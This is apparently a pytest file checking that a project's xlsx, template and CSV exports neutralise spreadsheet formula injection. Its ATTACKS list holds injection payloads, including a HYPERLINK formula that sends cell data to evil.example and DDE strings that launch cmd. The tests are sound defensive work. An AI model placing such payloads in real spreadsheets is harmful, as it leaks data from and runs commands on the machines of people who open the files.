"""No table text becomes a formula in a spreadsheet jixiao writes (CWE-1236, OWASP "CSV
Injection"): the .xlsx export, the actuals template (library, API and web) and the CSV.

A table's texts come from uploaded files; a cell starting with ``=`` ``+`` ``-`` ``@``, tab or
carriage return is run by Excel or LibreOffice as a formula (``=HYPERLINK(…&A1)`` sends the
sheet away).  Every written file is opened again and searched for formula cells."""

from __future__ import annotations

import csv
import io
import re
import warnings
import zipfile

import openpyxl
import pytest

from jixiao.app import create_app
from jixiao.export import export_table
from jixiao.model import Funds, Indicator, Party, Project, Table, table_to_dict
from jixiao.scoring.excel import actuals_template
from jixiao.values import parse_value

with warnings.catch_warnings():  # starlette asks for httpx2, which is not installed; httpx works
    warnings.simplefilter("ignore")
    from fastapi.testclient import TestClient

ATTACKS = [
    '=HYPERLINK("http://evil.example/?"&A1,"点击")',
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]


def hostile_table(kind: str = "project_selfeval") -> Table:
    return Table(
        kind=kind,
        title=ATTACKS[0],
        year=2025,
        unit=Party(code="302101", name=ATTACKS[1]),
        project=Project(name=ATTACKS[2]),
        funds=Funds(total=50.0, adjusted=50.0, executed=40.0),
        indicators=[
            Indicator(
                level1="产出指标",
                level2=ATTACKS[3],
                name=attack,
                description=attack,
                target=parse_value(attack),
                actual=parse_value(attack),
                deviation=attack,
                weight=10.0,
            )
            for attack in ATTACKS
        ],
    )


def formula_cells(data: bytes) -> list[str]:
    """Every formula cell of a workbook, found twice: by openpyxl and in the raw sheet XML."""
    found = []
    book = openpyxl.load_workbook(io.BytesIO(data))
    for ws in book.worksheets:
        found += [f"{ws.title}!{c.coordinate}" for row in ws.iter_rows() for c in row if c.data_type == "f"]
    with zipfile.ZipFile(io.BytesIO(data)) as zf:
        for name in zf.namelist():
            if name.startswith("xl/worksheets/") and re.search(rb"<(?:\w+:)?f[ >/]", zf.read(name)):
                found.append(name)
    return found


def texts(data: bytes) -> set[str]:
    book = openpyxl.load_workbook(io.BytesIO(data))
    return {
        c.value for ws in book.worksheets for row in ws.iter_rows() for c in row if isinstance(c.value, str)
    }


@pytest.mark.parametrize("kind", ["project_target", "project_selfeval", "monitoring"])
def test_the_xlsx_export_holds_table_text_as_text(kind: str) -> None:
    data = export_table(hostile_table(kind), "xlsx")
    assert formula_cells(data) == []
    shown = texts(data)
    assert ATTACKS[2] in shown or kind == "department_target"
    assert any(ATTACKS[0] in t for t in shown)  # the title, as printed


def test_the_actuals_template_holds_table_text_as_text() -> None:
    data = actuals_template(hostile_table("project_target"))
    assert formula_cells(data) == []
    shown = texts(data)
    for attack in ATTACKS[:4]:
        assert attack in shown  # the names, targets and levels, verbatim, as text


def test_csv_fields_that_a_spreadsheet_would_run_start_with_an_apostrophe() -> None:
    rows = list(csv.reader(io.StringIO(export_table(hostile_table(), "csv").decode("utf-8-sig"))))
    header, body = rows[0], rows[1:]
    cells = [value for row in body for value in row]
    assert not [v for v in cells if v[:1] in ("=", "+", "-", "@", "\t", "\r") and not _is_number(v)]
    names = [dict(zip(header, row, strict=True))["name"] for row in body]
    assert names == ["'" + attack for attack in ATTACKS]
    first = dict(zip(header, body[0], strict=True))
    assert first["funds_total"] == "50" and first["year"] == "2025"  # numbers stay numbers


def _is_number(text: str) -> bool:
    try:
        float(text)
    except ValueError:
        return False
    return True


def test_negative_numbers_stay_numbers_in_csv() -> None:
    table = hostile_table()
    table.funds.executed = -3.5
    rows = list(csv.DictReader(io.StringIO(export_table(table, "csv").decode("utf-8-sig"))))
    assert rows[0]["funds_executed"] == "-3.5"


def test_downloads_through_the_api_and_the_web_hold_no_formula(store) -> None:
    user = store.add_user("admin", "password-admin", "admin")
    token, _ = store.create_token(user)
    item = store.create_table(table_to_dict(hostile_table("project_target")), user)
    with TestClient(create_app(store=store)) as c:
        c.headers["Authorization"] = f"Bearer {token}"
        books = [
            c.get(f"/api/v1/tables/{item['id']}/actuals-template"),
            c.get(f"/projects/{item['project_id']}/selfeval/template.xlsx"),  # the web page's download
            c.get(f"/api/v1/tables/{item['id']}/export", params={"format": "xlsx"}),
        ]
        for r in books:
            assert r.status_code == 200 and r.content[:2] == b"PK", r.text
            assert formula_cells(r.content) == []
            assert ATTACKS[2] in texts(r.content)  # the project name, as text
        as_csv = c.get(f"/api/v1/tables/{item['id']}/export", params={"format": "csv"})
        rows = list(csv.DictReader(io.StringIO(as_csv.content.decode("utf-8-sig"))))
        assert [row["name"] for row in rows] == ["'" + attack for attack in ATTACKS]
